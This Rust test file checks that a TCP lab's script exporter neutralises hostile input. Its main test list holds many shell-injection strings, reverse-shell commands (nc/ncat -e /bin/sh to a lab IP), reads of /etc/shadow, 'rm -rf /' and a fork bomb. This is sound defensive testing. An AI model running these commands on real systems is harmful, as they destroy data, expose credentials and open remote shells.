//! Sessions of somebody who wants the script of the session to do harm. In a jail, as root, it changes nothing outside.

#![allow(clippy::unwrap_used, reason = "a test says what broke by failing")]
#![allow(clippy::print_stdout, reason = "a test that needs a kernel says that it was not run")]

use proptest::prelude::*;
use std::ffi::OsStr;
use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use tcp_core::Instant;
use tcp_core::net::HostId;
use tcp_core::tcp::ProfileName;
use tcp_course::{Action, Recording, Session, Step};
use tcp_shell::TerminalId::{ClientLower, ClientThird, ClientUpper, ServerLower, ServerUpper};
use tcp_shell::{Signal, User};
use tcp_tests::scripts::{Asked, asked, script};

/// What a script of such a session must not do. Whatever works leaves `/pwned`, or changes what the jail looks at.
const LINES: &[&str] = &[
    // Another command after one that may run, or in its words.
    "netstat -nat; touch /pwned",
    "netstat -nat & touch /pwned",
    "netstat -nat && touch /pwned",
    "netstat -nat | tee /pwned",
    "netstat -nat\ntouch /pwned",
    "netstat -nat\r\ntouch /pwned",
    "netstat -nat \\\n; touch /pwned",
    "netstat $(touch /pwned)",
    "netstat `touch /pwned`",
    "netstat \"$(touch /pwned)\"",
    "netstat <(touch /pwned)",
    "netstat ${x:-$(touch /pwned)}",
    "netstat $((a[$(touch /pwned)]))",
    "echo '$(touch /pwned)'",
    "echo \"'; touch /pwned; '\"",
    "echo '\\''; touch /pwned; '\\''",
    "echo \"\u{2028}touch /pwned\u{85}touch /pwned\u{202e}dewnp/ hcuot\"",
    "echo x # \ntouch /pwned",
    "# netstat\ntouch /pwned",
    "}; touch /pwned; {",
    "done\ntouch /pwned",
    "' \n touch /pwned \n '",
    "echo 'a\ntouch /pwned\n'",
    "echo ''' \ntouch /pwned",
    // Bash computes what is in brackets.
    "printf '%n' 'a[$(touch /pwned)]'",
    "test -v 'a[$(touch /pwned)]'",
    "[ -v 'a[$(touch /pwned)]' ]",
    "read 'a[$(touch /pwned)]'",
    "unset 'a[$(touch /pwned)]'",
    "let 'a[$(touch /pwned)]'",
    "eval touch /pwned",
    "exec touch /pwned",
    "source /pwned",
    ". /etc/profile",
    "trap 'touch /pwned' EXIT",
    "PATH=/evil netstat -nat",
    "alias netstat='touch /pwned'",
    "netstat() { touch /pwned; }",
    "function C_m { touch /pwned; }",
    "C_m touch /pwned",
    "finish",
    "cd /; rm -rf *",
    // Files elsewhere.
    "rm -rf /",
    "sudo rm -rf --no-preserve-root /",
    "netstat -nat > /etc/passwd",
    "sudo netstat -nat >> /etc/shadow",
    "nc -l 5555 > /pwned",
    "nc -l 5555 > ../../pwned",
    "nc -l 5555 2> /pwned",
    "nc -l 5555 &> ~/pwned",
    "echo x > /dev/tcp/10.211.55.10/80",
    "echo x > /proc/sys/kernel/hostname",
    "echo x > /proc/sysrq-trigger",
    "cat < /etc/shadow",
    "cat /etc/shadow",
    "grep -r root /etc",
    "grep -f /etc/shadow x",
    "grep root -e root /etc/shadow",
    "sort -o /pwned",
    "sort --output=/pwned",
    "sort --compress-program=/evil -S 1",
    "uniq - /pwned",
    "head /etc/shadow",
    "tail -f /etc/shadow",
    "wc --files0-from=/etc/shadow",
    "date -s 2001-01-01",
    "sudo date 010100002001",
    "tee /pwned",
    "dd of=/pwned",
    "touch /pwned",
    "sed -n '1w /pwned' /etc/passwd",
    "echo x | sed 's/x/touch \\/pwned/e'",
    "echo x | awk '{ system(\"touch /pwned\") }'",
    "sudo iptables-save -f /pwned",
    "sudo iptables-save -M /evil",
    "sudo tcpdump -w /pwned -z /evil",
    "curl -o /pwned http://10.211.55.10",
    "wget -O /pwned http://10.211.55.10",
    "ss -D /pwned",
    "ss --diag=/pwned",
    "ss -F /etc/shadow",
    // Other programs.
    "ncat -e /bin/sh 10.211.55.10 5555",
    "ncat -l 5555 --sh-exec 'touch /pwned'",
    "ncat -l 5555 -c 'touch /pwned'",
    "ncat -lvc 'touch /pwned' 5555",
    "ncat --lua-exec /evil -l 5555",
    "ncat -o /pwned -l 5555",
    "ncat --output=/pwned -l 5555",
    "nc.traditional -l -p 5555 -e /bin/sh",
    "nc.traditional -lp 5555 -c 'touch /pwned'",
    "nc.traditional -o /pwned -l -p 5555",
    "nc -e /bin/sh 10.211.55.10 5555",
    "nc -lU /pwned",
    "nc -x 127.0.0.1 10.211.55.10 80",
    "sh -c 'touch /pwned'",
    "bash -c \"netstat -nat; touch /pwned\"",
    "sudo bash -c 'sh -c \"touch /pwned\"'",
    "timeout 5 touch /pwned",
    "timeout -k 1 5 touch /pwned",
    "timeout --foreground 5 touch /pwned",
    "sudo -u root touch /pwned",
    "sudo -s touch /pwned",
    "sudo sudo touch /pwned",
    "/usr/bin/sudo /bin/touch /pwned",
    "/evil/netstat -nat",
    "../../usr/bin/touch /pwned",
    "xargs touch",
    "env touch /pwned",
    "watch touch /pwned",
    "time touch /pwned",
    "while true; do touch /pwned; done",
    "for i in 1; do touch /pwned; done",
    "(touch /pwned)",
    "{ touch /pwned; }",
    "if true; then touch /pwned; fi",
    "ip netns exec x touch /pwned",
    "sudo ip -batch /pwned",
    "telnet 10.211.55.10 5555\n\u{1d}\n! touch /pwned",
    // What the kernel has only once, and what is in the network outside.
    "sudo iptables --modprobe=/evil -L",
    "sudo iptables --modprobe /evil -L",
    "sudo iptables -M /evil -L",
    "sudo iptables -t nat -F",
    "sudo iptables -A INPUT -p ../../../../evil -j DROP",
    "sudo iptables -A INPUT -m bpf --object-pinned /evil -j DROP",
    "sudo iptables -A INPUT -m recent --set --name pwned",
    "sudo iptables -A INPUT -j NFQUEUE",
    "sudo iptables -A INPUT -j AUDIT --type drop",
    "sudo iptables -N AUDIT",
    "sudo iptables -N '-j'",
    "sudo iptables -N 'x --modprobe=/evil'",
    "sudo iptables -A INPUT -i 'x --modprobe=/evil' -j DROP",
    "sudo iptables -A INPUT -m comment --comment '$(touch /pwned)' -j DROP",
    "sudo iptables -A INPUT -m comment --comment --modprobe=/evil -j DROP",
    "sudo iptables -A INPUT -j LOG --log-prefix '`touch /pwned`'",
    "sudo iptables -F",
    "sudo iptables -P INPUT DROP",
    "sudo sysctl -w kernel.hostname=pwned",
    "sudo sysctl -w kernel.core_pattern='|/evil'",
    "sudo sysctl -w net.ipv4.tcp_syn_retries=1",
    "sudo sysctl -w 'net.ipv4.tcp_syn_retries=1;touch /pwned'",
    "sudo sysctl -w net.ipv4.tcp_x/../../../kernel/hostname=1",
    "sudo sysctl -p /pwned",
    "sudo sysctl --system",
    "sudo ip link set eth0 mtu 100",
    "sudo ip addr add 10.0.0.1/8 dev eth0",
    "sudo ip route del default",
    "sudo ifconfig eth0 10.9.9.9",
    "mount -t tmpfs x /etc",
    "umount /proc",
    "nsenter -t 1 -a touch /pwned",
    "unshare touch /pwned",
    "chroot / touch /pwned",
    // Programs that the script has not started.
    "yes",
    "yes > fills.txt",
    "seq 1 99999999999999",
    "killall nc",
    "sudo killall -9 sleep bash nc",
    "kill -9 -1",
    "kill -9 1",
    "sudo pkill -9 .",
    "sudo fuser -k 5555/tcp",
    "kill %1",
    "exit",
    "logout",
    "reboot",
    "shutdown -h now",
    ":(){ :|:& };:",
    "\u{1b}]0;pwned\u{7}\u{1b}[2J",
    "\0touch /pwned",
    "",
    "   ",
];

/// Waits between two lines.
const STEP: u64 = 8;

fn played(user: User, steps: Vec<Action>) -> Session {
    let last = STEP * (steps.len() as u64 + 1);
    let steps =
        (1..).zip(steps).map(|(at, action)| Step { at: Instant::from_millis(STEP * at), action }).collect();
    let mut session = Session::of(&Recording { user, steps, ..Recording::new(ProfileName::Linux, 1) });
    session.advance_to(Instant::from_millis(last));
    session
}

/// Every line at prompts, as what a program reads, and in what a recording starts and runs.
fn sessions() -> Vec<(String, Session)> {
    let mut all = Vec::new();
    for user in User::ALL {
        let lines = || LINES.iter().map(|line| (*line).to_owned());
        let at_prompts = lines().flat_map(|line| {
            // A program that waits must not keep the next lines from the prompt.
            [
                Action::Enter { terminal: ClientLower, line },
                Action::ctrl_c(ClientLower),
                Action::ctrl_c(ClientLower),
            ]
        });
        all.push((format!("at prompts, as {}", user.name()), played(user, at_prompts.collect())));
        let mut typed =
            vec![Action::enter(ServerUpper, "nc -lk 5555"), Action::enter(ClientUpper, "nc S_m 5555")];
        typed.extend(lines().map(|line| Action::Input { terminal: ClientUpper, line }));
        typed.push(Action::enter(ServerLower, "killall nc"));
        all.push((format!("into a program, as {}", user.name()), played(user, typed)));
        let started = lines().enumerate().flat_map(|(number, cmd)| {
            let (host, id) = (HostId::ALL[number % 2], format!("$(touch /pwned)\n{number}"));
            [
                Action::Start { host, id: id.clone(), cmd: cmd.clone() },
                Action::Type { host, id: id.clone(), text: cmd.clone() },
                Action::Run { host, cmd: cmd.clone() },
                Action::Network { line: cmd },
                Action::Signal { host, id, signal: Signal::Kill },
            ]
        });
        all.push((format!("started, as {}", user.name()), played(user, started.collect())));
        let third = lines().map(|line| Action::enter(ClientThird, line));
        all.push((format!("in one terminal, as {}", user.name()), played(user, third.collect())));
    }
    all
}

/// The lines that were written for the session itself.
fn body(script: &str) -> &str {
    script.split_once("\nbegun=${EPOCHREALTIME/./}\n").unwrap().1
}

/// Whether a text is one word for bash: without quotes, or in quotes of either kind.
fn is_word(text: &str) -> bool {
    let inside = |text: &str| text.strip_suffix('\'').map(str::to_owned);
    if let Some(rest) = text.strip_prefix("$'") {
        let plain = rest.replace("\\\\", "").replace("\\'", "");
        return inside(&plain).is_some_and(|text| !text.contains('\''));
    }
    if let Some(rest) = text.strip_prefix('\'') {
        return inside(&rest.replace("'\\''", "")).is_some_and(|text| !text.contains('\''));
    }
    !text.is_empty()
        && text.bytes().all(|octet| octet.is_ascii_alphanumeric() || b"-_./:,=+@%^".contains(&octet))
}

#[test]
fn every_line_of_a_script_is_one_that_we_write() {
    let mut jobs = 0;
    for (name, session) in sessions() {
        let script = script(&session).unwrap();
        for line in body(&script).lines() {
            let (first, rest) = line.split_once(' ').unwrap_or((line, ""));
            let words = |most| rest.splitn(most, ' ').collect::<Vec<_>>();
            let ours = match first {
                "" => rest.is_empty(),
                "#" => rest.starts_with("left out: "),
                "at" => rest.replace('.', "").bytes().all(|octet| octet.is_ascii_digit()),
                "typed" => {
                    let terminals = [
                        "network ",
                        "C_m ",
                        "S_m ",
                        "'C_m upper' ",
                        "'C_m lower' ",
                        "'C_m third' ",
                        "'S_m upper' ",
                        "'S_m lower' ",
                    ];
                    terminals.iter().find_map(|terminal| rest.strip_prefix(terminal)).is_some_and(is_word)
                }
                "enter" => words(2).get(1).is_some_and(|text| is_word(text)),
                "begin" | "run" | "send" => words(3).iter().all(|word| is_word(word)),
                "list" | "end_input" | "finish" => !rest.contains(' '),
                "iptables" => rest.contains(" FORWARD -s 10.211.55.") && rest.contains(" -j loss"),
                job if job.starts_with("job") && job.ends_with("()") => {
                    jobs += 1;
                    rest.starts_with("{ ")
                        && rest.ends_with("; }")
                        && !rest.replace("'$(touch", "").contains("$(")
                }
                _ => false,
            };
            assert!(ours, "{name}: {line}");
            assert!(
                !line.contains(|c: char| c.is_control() || "\u{2028}\u{85}\u{202e}".contains(c)),
                "{name}: {line:?}"
            );
        }
    }
    assert!(jobs > 50, "only {jobs} jobs");
}

/// What the words of the `typed` lines are to bash itself.
fn read_by_bash(lines: Vec<String>) -> Vec<String> {
    let steps = lines.into_iter().map(|line| Action::Network { line }).collect();
    let script = script(&played(User::Student, steps)).unwrap();
    let stubs = "at() { :; }; list() { :; }; finish() { :; }; typed() { printf '%s\\0' \"$2\"; }\n";
    let mut bash = Command::new("bash").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    write!(bash.stdin.take().unwrap(), "{stubs}{}", body(&script)).unwrap();
    let done = bash.wait_with_output().unwrap();
    assert!(done.status.success());
    let text = String::from_utf8(done.stdout).unwrap();
    text.split_terminator('\0').map(str::to_owned).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn bash_reads_every_text_as_it_was(lines in prop::collection::vec("(?s)[\\PC'\"\\\\$`\n\t\r -~]{0,20}|(?s).{0,20}", 1..20)) {
        let lines: Vec<String> = lines.into_iter().map(|line: String| format!("no {line}")).collect();
        let wanted: Vec<String> = lines.iter().map(|line| line.replace('\0', "")).collect();
        prop_assert_eq!(read_by_bash(lines), wanted);
    }
}

/// In the place of the script's head: whatever is called that is not on the list of tools is named, and nothing is run.
const STUBS: &str = r#"
exec 9>&1 > /dev/null 2>&1
command_not_found_handle() { echo "$*" >&9; }
PATH=/nowhere nc=nc
# `timeout` calls the files echo, true and false, which do no more than bash's own.
allowed=' nc nc.traditional ncat ping sleep netstat ss iptables iptables-save sysctl ip ifconfig route echo true false : '
C_m() {
    if [[ $1 == timeout ]]; then C_m "${@:4}"; elif [[ $allowed != *" $1 "* ]]; then echo "$*" >&9; fi
}
S_m() { C_m "$@"; }
timeout() { C_m "${@:3}"; }
for tool in yes seq date grep egrep fgrep wc sort uniq head tail cut tr cat column sleep route; do
    allowed+=" $tool "
    eval "$tool() { :; }"
done
at() { :; }; typed() { :; }; list() { :; }; enter() { :; }; send() { :; }; end_input() { :; }; finish() { :; }
iptables() { :; }; queue() { :; }; delay() { :; }
begin() { "$1" < /dev/null; }; run() { "$1" < /dev/null; }
for word in $(compgen -b); do
    case $word in echo | : | true | false | enable) ;; *) enable -n "$word" ;; esac
done
enable -n enable
"#;

/// What a script calls that is not on the list, and the files that it makes outside its folder.
fn strangers(script: &str) -> Vec<String> {
    static COUNT: AtomicUsize = AtomicUsize::new(0);
    let number = COUNT.fetch_add(1, Ordering::Relaxed);
    let place = std::env::temp_dir().join(format!("tcp-states-strangers-{}-{number}", std::process::id()));
    let folder = place.join("one/two");
    fs::create_dir_all(&folder).unwrap();
    let mut bash = Command::new("bash");
    bash.current_dir(&folder).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut bash = bash.spawn().unwrap();
    write!(bash.stdin.take().unwrap(), "{STUBS}{}", body(script)).unwrap();
    let done = bash.wait_with_output().unwrap();
    let mut found: Vec<String> = String::from_utf8_lossy(&done.stdout).lines().map(str::to_owned).collect();
    for above in [&place, &place.join("one")] {
        let entries = fs::read_dir(above).unwrap().map(|entry| entry.unwrap().path());
        found.extend(entries.filter(|path| !folder.starts_with(path)).map(|path| path.display().to_string()));
    }
    fs::remove_dir_all(&place).unwrap();
    found
}

#[test]
fn a_stranger_is_noticed() {
    for line in [
        "job1() { touch x; }\nbegin job1 C_m",
        "echo x > ../y",
        "echo $(id)",
        "printf x",
        "eval x",
        "C_m rm x",
        "C_m timeout --foreground 1 rm x",
        "test x",
    ] {
        let script = format!("\nbegun=${{EPOCHREALTIME/./}}\n{line}\n");
        assert!(!strangers(&script).is_empty(), "{line}");
    }
}

/// Lines of words that the lab knows, of what bash knows, and of words from the corpus.
fn any_line() -> impl Strategy<Value = String> {
    let known: Vec<String> = tcp_shell::known_words().into_iter().map(str::to_owned).collect();
    let corpus: Vec<String> = LINES.iter().flat_map(|line| line.split(' ')).map(str::to_owned).collect();
    let signs = [
        ";",
        "|",
        "&",
        "&&",
        "||",
        ">",
        ">>",
        "<",
        "<<<",
        "2>&1",
        "(",
        ")",
        "{",
        "}",
        "$(",
        "`",
        "'",
        "\"",
        "\\",
        "\n",
        "#",
        "!",
        "sudo",
        "sh -c",
        "bash -c '",
        "timeout 1",
        "echo",
        "nc",
        "netstat -nat",
        "x",
        "../x",
        "/dev/null",
        "5555",
        "--",
        "-e",
        "=",
        "while true; do",
        "done",
        "for x in",
        "if",
        "then",
        "fi",
        "$x",
        "~",
        "*",
        "touch",
        "\u{2028}",
        "\r",
        "\0",
    ];
    let word = prop_oneof![
        3 => prop::sample::select(known),
        2 => prop::sample::select(corpus),
        4 => prop::sample::select(signs.map(str::to_owned).to_vec()),
    ];
    prop::collection::vec((word, any::<bool>()), 1..8).prop_map(|words| {
        words.into_iter().map(|(word, apart)| if apart { format!("{word} ") } else { word }).collect()
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn whatever_is_typed_calls_the_tools_of_the_list(lines in prop::collection::vec(any_line(), 40)) {
        let typed = lines.into_iter().flat_map(|line| {
            [Action::Enter { terminal: ClientLower, line }, Action::ctrl_c(ClientLower), Action::ctrl_c(ClientLower)]
        });
        // What no kernel can do is refused.
        if let Ok(script) = script(&played(User::Root, typed.collect())) {
            prop_assert_eq!(strangers(&script), Vec::<String>::new());
        }
    }
}

/// Runs a script as root in a copy of this machine's files, and fails if anything outside its namespaces has changed.
const JAIL: &str = r#"
fails() { printf 'jail: %s\n' "$1" >&2; exit 1; }
mount -t tmpfs tmpfs "$1" && mkdir "$1/upper" "$1/work" "$1/root" || fails 'no folder'
cp "$2" "$1/script.sh"
mount -t overlay overlay -o "lowerdir=/,upperdir=$1/upper,workdir=$1/work" "$1/root" || exit 77
root=$1/root
mkdir "$1/bin" && cp /usr/bin/sleep "$1/bin/nc"
mount --rbind /dev "$root/dev" && mount -t proc proc "$root/proc" && mount --rbind /sys "$root/sys" || fails 'no root'
"$1/bin/nc" 1000 & outside=$!
look() {
    iptables-save | grep -v '^#'; ip addr; ip route; sysctl -a 2> /dev/null | grep -E '^(net.ipv4.tcp|net.core|kernel.(hostname|core_pattern))'
    cat /proc/mounts; find "$1/upper" -mindepth 1; ls /proc/sys/net/ipv4/conf
}
look "$1" > "$1/before"
cat "$1/script.sh" > "$root/tmp/script.sh"
find "$1/upper" -mindepth 1 > "$1/upper-before"
chroot "$root" bash /tmp/script.sh > "$1/out" 2> "$1/err"; status=$?
find "$1/upper" -mindepth 1 > "$1/upper-after"
diff "$1/upper-before" "$1/upper-after" >&2 || fails 'files have changed'
cmp -s "$1/script.sh" "$root/tmp/script.sh" || fails 'the script has changed'
rm "$root/tmp/script.sh"
kill -0 "$outside" || fails 'a program outside was ended'
look "$1" | grep -v -e "$1/upper/tmp" > "$1/after"
diff "$1/before" "$1/after" >&2 || fails 'the machine has changed'
[ "$(jobs -r | wc -l)" -eq 1 ] && [ "$(ps -e -o pid= | wc -l)" -lt 12 ] || fails "programs are left: $(ps -e)"
kill "$outside"
cat "$1/out"; cat "$1/err" >&2
exit "$status"
"#;

/// Runs a script in the jail. `None` if this machine has none; otherwise what it printed, or what is wrong.
fn jailed(number: usize, text: &str) -> Option<Result<String, String>> {
    let folder = std::env::temp_dir().join(format!("tcp-states-jail-{}-{number}", std::process::id()));
    fs::create_dir_all(&folder).unwrap();
    let file = folder.with_extension("sh");
    fs::write(&file, text).unwrap();
    let mut jail = Command::new("unshare");
    jail.args([
        "--net",
        "--pid",
        "--mount",
        "--fork",
        "--kill-child",
        "--mount-proc",
        "bash",
        "-c",
        JAIL,
        "jail",
    ]);
    let done = jail.arg(&folder).arg(&file).stdin(Stdio::null()).output().unwrap();
    fs::remove_file(&file).unwrap();
    fs::remove_dir(&folder).unwrap();
    let (out, err) = (String::from_utf8_lossy(&done.stdout), String::from_utf8_lossy(&done.stderr));
    match done.status.code() {
        Some(77) => None,
        Some(0) => Some(Ok(out.into_owned())),
        _ => Some(Err(format!("{}\n{out}\n{err}", done.status))),
    }
}

/// What the jail must notice.
const NAUGHTY: [&str; 6] = [
    "touch /pwned",
    "echo x >> /etc/hosts",
    "rm /etc/hosts",
    "killall nc",
    "iptables -A INPUT -j DROP",
    "sysctl -w net.ipv4.tcp_syn_retries=1",
];

#[test]
fn nothing_outside_changes() {
    let mut scripts: Vec<(String, String)> =
        sessions().iter().map(|(name, session)| (name.clone(), script(session).unwrap())).collect();
    match asked() {
        Asked::Nothing(why) => return println!("not run: {why}"),
        Asked::Two => scripts.truncate(2),
        Asked::All => {}
    }
    if !Command::new("id").arg("-u").output().is_ok_and(|done| done.stdout == b"0\n") {
        return println!("not run: only root can make the jail");
    }
    for (number, line) in NAUGHTY.iter().enumerate() {
        match jailed(1000 + number, &format!("{line}\n")) {
            None => return println!("not run: this machine has no overlay of files"),
            Some(result) => {
                assert!(result.is_err_and(|why| why.contains("jail: ")), "{line} was not noticed")
            }
        }
    }
    thread::scope(|scope| {
        for (number, (name, text)) in scripts.iter().enumerate() {
            scope.spawn(move || {
                let out = jailed(number, text).unwrap().unwrap_or_else(|why| panic!("{name}: {why}"));
                assert!(out.contains("Sockets of S_m:"), "{name}: {out}");
                println!("{name}: {} lines, and nothing has changed", out.lines().count());
            });
        }
    });
}

/// The program `tcp-states`, which `cargo xtask soak` names.
const PROGRAM: &str = "TCP_STATES_PROGRAM";

/// Calls that open, make, remove or run a file.
const CALLS: &str = "open,openat,openat2,creat,execve,execveat,unlink,unlinkat,rename,renameat,renameat2,link,linkat,symlink,\
    symlinkat,mkdir,mkdirat,rmdir,truncate,mknod,mknodat,chmod,fchmodat,connect,bind";

/// Where the loader and the run-time of any program look.
const OF_ANY_PROGRAM: [&str; 6] =
    ["/lib", "/usr/lib", "/etc/ld.so.", "/proc/self/", "/sys/fs/cgroup/", "/dev/null"];

/// Exports a recording, and returns whether it was not refused, and the files that were touched although nobody named them.
fn touched(program: &OsStr, folder: &Path, recording: &str) -> (bool, Vec<String>) {
    let (input, output, calls) = (folder.join("in.json"), folder.join("out.sh"), folder.join("calls"));
    fs::write(&input, recording).unwrap();
    let mut strace = Command::new("strace");
    strace
        .args(["-f", "-qq", "-s", "4096", "-e", &format!("trace={}", CALLS.replace(' ', "")), "-o"])
        .arg(&calls);
    strace.arg(program).arg("export").arg(&input).arg("--script").arg(&output);
    // Cargo lets programs look for libraries in more places.
    let done = strace.env_remove("LD_LIBRARY_PATH").output().unwrap();
    // The program refuses a recording that starts what does not exist.
    let exported = done.status.success();
    assert!(exported || done.status.code() == Some(2), "{}", String::from_utf8_lossy(&done.stderr));
    let (calls, named) =
        (fs::read_to_string(&calls).unwrap(), [&input, &output].map(|path| format!("{path:?}")));
    let opened = |name: &String| calls.contains(&format!("openat(AT_FDCWD, {name}"));
    assert!(opened(&named[0]) && opened(&named[1]) == exported, "strace saw the files: {calls}");
    let started = format!("execve({program:?}");
    let ours = |line: &&str| {
        let file = line.split('"').nth(1).unwrap_or_default();
        let known = OF_ANY_PROGRAM.iter().any(|begin| file.starts_with(begin)) && line.contains("O_RDONLY");
        known || named.iter().any(|name| line.contains(name)) || line.contains(&started)
    };
    (exported, calls.lines().filter(|line| line.contains('(') && !ours(line)).map(str::to_owned).collect())
}

#[test]
fn the_program_touches_the_named_files_only() {
    let Some(program) = std::env::var_os(PROGRAM) else {
        return println!("not run: cargo xtask soak runs it");
    };
    if Command::new("strace").arg("--version").output().is_err() {
        return println!("not run: strace is not installed");
    }
    let folder = std::env::temp_dir().join(format!("tcp-states-strace-{}", std::process::id()));
    fs::create_dir_all(&folder).unwrap();
    let mut count = 0;
    for (name, session) in sessions() {
        let (exported, touched) = touched(&program, &folder, &session.recording().to_json());
        assert_eq!(touched, Vec::<String>::new(), "{name}");
        count += usize::from(exported);
    }
    assert_eq!(count, 6, "scripts were written");
    fs::remove_dir_all(&folder).unwrap();
}
